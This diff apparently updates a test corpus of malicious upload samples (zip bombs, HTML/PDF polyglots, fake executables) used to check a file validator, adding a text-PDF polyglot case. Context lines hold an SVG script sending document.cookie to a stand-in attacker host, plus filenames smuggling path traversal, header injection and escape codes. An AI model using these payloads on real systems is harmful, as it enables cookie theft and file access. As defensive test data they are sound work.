@@ -50,6 +50,7 @@ def zip_bomb() -> bytes:
 SVG_WITH_SCRIPT = (b'<?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)">'
                    b"<script>fetch('https://evil.example/'+document.cookie)</script><text>Factuur</text></svg>")
 HTML_PDF_POLYGLOT = b"<html><script>alert(1)</script><!--\n" + docs.blank_pdf(1) + b"\n--></html>"
+HTML_TEXT_PDF_POLYGLOT = b"<html><script>alert(2)</script><!--\n" + docs.text_pdf() + b"\n--></html>"
 WINDOWS_PROGRAM = b"MZ\x90\x00\x03" + b"\0" * 59 + b"PE\0\0" + b"\0" * 400
 
 CORPUS = [  # (filename, content type, content, words the reason has)
@@ -62,7 +63,8 @@ CORPUS = [  # (filename, content type, content, words the reason has)
     ("scan.png", "image/png", bombs.png_header_only(100_000, 100_000), "megapixels"),
     ("factuur.png", "image/png", SVG_WITH_SCRIPT, ""),
     ("factuur.pdf", "application/pdf", SVG_WITH_SCRIPT + b"<!-- 1 -->", ""),
-    ("polyglot.pdf", "application/pdf", HTML_PDF_POLYGLOT, ""),
+    ("polyglot.pdf", "application/pdf", HTML_PDF_POLYGLOT, "web page"),
+    ("polyglot-text.pdf", "application/pdf", HTML_TEXT_PDF_POLYGLOT, "web page"),
     ("factuur.pdf.exe", "application/pdf", WINDOWS_PROGRAM, ""),
     ("../../../etc/passwd\x00.pdf", "application/pdf", WINDOWS_PROGRAM + b"passwd", ""),
     ("..\\..\\boot.ini\r\nX-Evil: 1\x1b[31m.pdf", "application/pdf", SVG_WITH_SCRIPT + b"<!-- 2 -->", ""),
